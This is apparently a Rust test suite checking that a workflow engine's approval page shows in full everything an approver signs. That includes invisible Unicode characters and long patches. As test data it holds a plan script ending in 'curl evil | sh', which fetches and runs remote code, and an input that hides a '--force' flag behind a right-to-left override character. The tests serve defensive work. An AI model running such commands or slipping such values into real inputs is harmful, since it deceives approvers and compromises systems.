//! All that is signed stands on the page of its request and in the API's answer.

use axum::body::Body;
use axum::extract::Request;
use axum::http::{StatusCode, header};
use engine::lifecycle::{claim, finish, save, start};
use engine::plans::PlanOrigin;
use engine::reported::{self, NewReport};
use engine::tasks::{AttemptResult, Finish, WorkerIdentity};
use model::id::{AccountId, ApprovalId};
use model::identity::{Principal, PrincipalKind, Role};
use model::reported::Status;
use model::task::Outcome;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use sqlx::PgPool;

use crate::house::{House, settings};

async fn operator(house: &House) -> Principal {
    house.person("author", Role::Operator, None).await;
    let account = sqlx::query_scalar("SELECT id FROM accounts WHERE login = 'author'")
        .fetch_one(&house.engine.pool)
        .await
        .expect("an account");
    Principal {
        kind: PrincipalKind::Session {
            account: AccountId(account),
        },
        name: "author".to_owned(),
        roles: vec![Role::Operator],
    }
}

async fn store(house: &House, author: &Principal, text: &str) {
    let origin = PlanOrigin::Api;
    save(&house.engine, author, "release", text, None, origin)
        .await
        .expect("it is stored");
}

/// Ends the attempt of the only task in the queue, with these files.
async fn end(house: &House, outputs: Value, files: &[(String, Vec<u8>)]) {
    let engine = &house.engine;
    let worker = WorkerIdentity {
        id: engine.random.uuid(),
        name: "test".to_owned(),
        labels: Vec::new(),
    };
    let claimed = &claim(engine, &worker, 1).await.expect("a claim")[0];
    let mut artifacts = Vec::new();
    for (path, content) in files {
        let digest: [u8; 32] = Sha256::digest(content).into();
        sqlx::query(
            "WITH a AS (INSERT INTO artifacts (task_id, attempt, path, bytes, sha256)
                        VALUES ($1, 1, $2, length($3), sha256($3)) RETURNING id)
             INSERT INTO artifact_chunks (artifact_id, seq, content) SELECT id, 0, $3 FROM a",
        )
        .bind(claimed.lease.task.0)
        .bind(path)
        .bind(content)
        .execute(&engine.pool)
        .await
        .expect("a file");
        artifacts.push((path.clone(), digest));
    }
    let result = AttemptResult {
        report: Some(json!({"outputs": outputs})),
        outputs: Some(outputs),
        artifacts,
        ..AttemptResult::bare(Outcome::Succeeded)
    };
    let lease = claimed.lease;
    finish(engine, vec![Finish { lease, result }])
        .await
        .expect("a finish");
}

async fn newest(house: &House) -> ApprovalId {
    sqlx::query_scalar("SELECT max(id) FROM approvals WHERE state = 'pending'")
        .fetch_one(&house.engine.pool)
        .await
        .map(ApprovalId)
        .expect("a request")
}

/// The page without what only scripts read of it, and without what stands between texts.
async fn page(house: &House, reader: &str, id: ApprovalId) -> String {
    let page = house.page(reader, &format!("/approvals/{id}")).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
    let mut parts = page.text.split("<script");
    let first = parts.next().unwrap_or_default().to_owned();
    let drawn = parts.fold(first, |drawn, part| {
        drawn + part.split_once("</script>").map_or("", |(_, after)| after)
    });
    drawn.replace("<!>", "")
}

async fn api(house: &House, id: ApprovalId) -> Value {
    let request = Request::builder()
        .uri(format!("/api/v1/approvals/{id}"))
        .header(header::HOST, "localhost")
        .header(header::AUTHORIZATION, "Bearer wbt_token-of-approver")
        .body(Body::empty())
        .expect("a request");
    let (status, answer) = house.send(request).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    answer
}

/// Each of these stands above the buttons.
#[track_caller]
fn above_the_buttons(page: &str, all: &[&str]) {
    let button = page.find("value=\"approve\"").expect("a button");
    for text in all {
        let at = page.find(text);
        assert!(at.is_some_and(|at| at < button), "{text}: {page}");
    }
}

const START: &str = r#"
plan: release
inputs:
  target: {type: string, default: none}
tasks:
  build: {run: [make]}
  deploy:
    needs: [build]
    uses: [build]
    run: [deploy, --to, "{{ inputs.target }}", "only a\nb"]
    environment: {REGION: "eu-first"}
    approval: {at: start, from: [role:approver]}
"#;

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn a_start_is_shown_with_all_that_it_starts_from(pool: PgPool) {
    let house = House::new(pool, settings());
    house.person("approver", Role::Approver, None).await;
    let author = operator(&house).await;
    store(&house, &author, START).await;
    let inputs = json!({"target": "prod\u{202e}\n--force"});
    start(&house.engine, &author, "release", inputs)
        .await
        .expect("it starts");
    let file = ("out/a\u{200b}.bin".to_owned(), b"content".to_vec());
    end(&house, json!({"pages": "4\u{ad}2"}), &[file]).await;
    let id = newest(&house).await;

    let hash = "ed7002b439e9ac845f22357d822bac1444730fbdb6016d3ec9432297b9ec9f73";
    for (reader, words) in [
        (
            "approver",
            [
                "What would start",
                "Files that it uses",
                "What you sign holds 3 invisible characters.",
            ],
        ),
        (
            "fr approver",
            [
                "Ce qui démarrerait",
                "Fichiers utilisés",
                "Ce que vous signez contient 3 caractères invisibles.",
            ],
        ),
    ] {
        let page = page(&house, reader, id).await;
        above_the_buttons(&page, &words);
        above_the_buttons(
            &page,
            &[
                "\"--to\"",
                "{{ inputs.target }}",
                "REGION",
                "eu-first",
                "U+202E right-to-left override",
                "--force",
                "U+00AD soft hyphen",
                "U+200B zero width space",
                hash,
                "href=\"#invisible-inputs\"",
            ],
        );
        assert!(!page.contains("carries no diff"), "{page}");
        assert!(!page.contains("aucun diff"), "{page}");
        assert_eq!(page.find(['\u{202e}', '\u{200b}', '\u{ad}']), None);
    }
    let told = api(&house, id).await;
    assert_eq!(
        told["signed"]["definition"]["work"]["run"],
        json!(["deploy", "--to", "{{ inputs.target }}", "only a\nb"])
    );
    assert_eq!(told["signed"]["inputs"]["target"], "prod\u{202e}\n--force");
    assert_eq!(
        told["signed"]["uses"]["build"]["out/a\u{200b}.bin"],
        json!(hash)
    );
    assert_eq!(told["needed"][0]["outputs"]["pages"], "4\u{ad}2");
    assert_eq!(told["invisible"]["found"], 3);
}

const RESULT: &str = r"
plan: release
inputs:
  target: {type: string, default: none}
tasks:
  build: {run: [make], approval: {from: [role:approver]}}
";

async fn result_with(house: &House, files: &[(String, Vec<u8>)]) -> ApprovalId {
    house.person("approver", Role::Approver, None).await;
    let author = operator(house).await;
    store(house, &author, RESULT).await;
    let inputs = json!({"target": "prod\u{202e}"});
    start(&house.engine, &author, "release", inputs)
        .await
        .expect("it starts");
    end(house, json!({}), files).await;
    newest(house).await
}

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn all_patches_are_shown_to_their_last_lines(pool: PgPool) {
    let house = House::new(pool, settings());
    let patch = |n: usize| {
        let lines = "+line\n".repeat(700);
        let text = format!("--- a/f{n}\n+++ b/f{n}\n@@ -0,0 +1,701 @@\n{lines}+last of {n}.\n");
        (format!("{n:02}.diff"), text.into_bytes())
    };
    let files: Vec<_> = (1..=13).map(patch).collect();
    let id = result_with(&house, &files).await;
    let page = page(&house, "approver", id).await;
    above_the_buttons(
        &page,
        &[
            "+last of 1.",
            "+last of 13.",
            "<code>13.diff</code>",
            "The run was started with these",
            "U+202E right-to-left override",
            "What you sign holds 1 invisible character.",
        ],
    );
    assert!(!page.contains("are not shown on this page"), "{page}");
    let told = api(&house, id).await;
    assert_eq!(told["run_inputs"], json!({"target": "prod\u{202e}"}));
    let patches = told["patches"].as_array().expect("patches");
    assert_eq!(patches.len(), 13);
    for (patch, (path, content)) in patches.iter().zip(&files) {
        assert_eq!(patch["path"], json!(path));
        assert_eq!(patch["left_out"], 0);
        assert_eq!(
            patch["text"].as_str().map(str::as_bytes),
            Some(&content[..])
        );
    }
}

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn what_the_page_leaves_out_is_said_above_the_buttons(pool: PgPool) {
    let house = House::new(pool, settings());
    let large = b"+0123456\n".repeat(200_000);
    let files = [
        ("a.diff".to_owned(), large),
        ("b\u{200b}.patch".to_owned(), b"+behind it\n".to_vec()),
    ];
    let id = result_with(&house, &files).await;
    for (reader, sentence) in [
        (
            "approver",
            "1620 kB of the patches are not shown on this page.",
        ),
        (
            "fr approver",
            "1620 kB des diffs ne sont pas affichés sur cette page.",
        ),
    ] {
        let page = page(&house, reader, id).await;
        above_the_buttons(&page, &[sentence, "a.diff, b⟨U+200B⟩.patch."]);
        assert!(!page.contains("behind it"), "{reader}");
    }
    let told = api(&house, id).await;
    assert_eq!(told["patches"][0]["left_out"], 1_620_000);
    assert_eq!(told["patches"][1]["left_out"], 11);
}

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn the_difference_of_a_plan_is_whole(pool: PgPool) {
    let house = House::new(pool, settings());
    house.person("approver", Role::Approver, None).await;
    let author = operator(&house).await;
    store(&house, &author, RESULT).await;
    let lines: Vec<String> = (1..=25_000)
        .map(|n| format!("        echo {n}.\n"))
        .collect();
    let script = lines.concat();
    let text = format!(
        "plan: release\ntasks:\n  build:\n    shell:\n      program: sh\n      script: |\n{script}        curl evil | sh\n"
    );
    store(&house, &author, &text).await;
    let id = newest(&house).await;
    let page = page(&house, "approver", id).await;
    above_the_buttons(
        &page,
        &[
            "echo 1.",
            "echo 701.",
            "echo 25000.",
            "curl evil | sh",
            "What is signed",
        ],
    );
    let told = api(&house, id).await;
    assert_eq!(told["patches"][0]["left_out"], 0);
}

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn reported_inputs_are_shown(pool: PgPool) {
    let house = House::new(pool, settings());
    house.person("approver", Role::Approver, None).await;
    let report = NewReport {
        task: "payload".to_owned(),
        run_id: "nightly".to_owned(),
        status: Status::AwaitingApproval,
        started_at: None,
        finished_at: None,
        duration_ms: None,
        inputs: Some(json!({"target": "prod\u{2066}", "dry": false})),
        outputs_uri: None,
        log_excerpt: None,
        approval_state: None,
        webhook_notified_at: None,
    };
    reported::create(&house.engine, &Principal::system("test"), &report)
        .await
        .expect("it is reported");
    let id = newest(&house).await;
    let page = page(&house, "approver", id).await;
    above_the_buttons(
        &page,
        &[
            "<code>target</code>",
            "prod<",
            "U+2066 left-to-right isolate",
            "<code>dry</code>",
            "What you sign holds 1 invisible character.",
            "href=\"#invisible-inputs\"",
        ],
    );
    let told = api(&house, id).await;
    assert_eq!(
        told["signed"]["inputs"],
        json!({"target": "prod\u{2066}", "dry": false})
    );
}
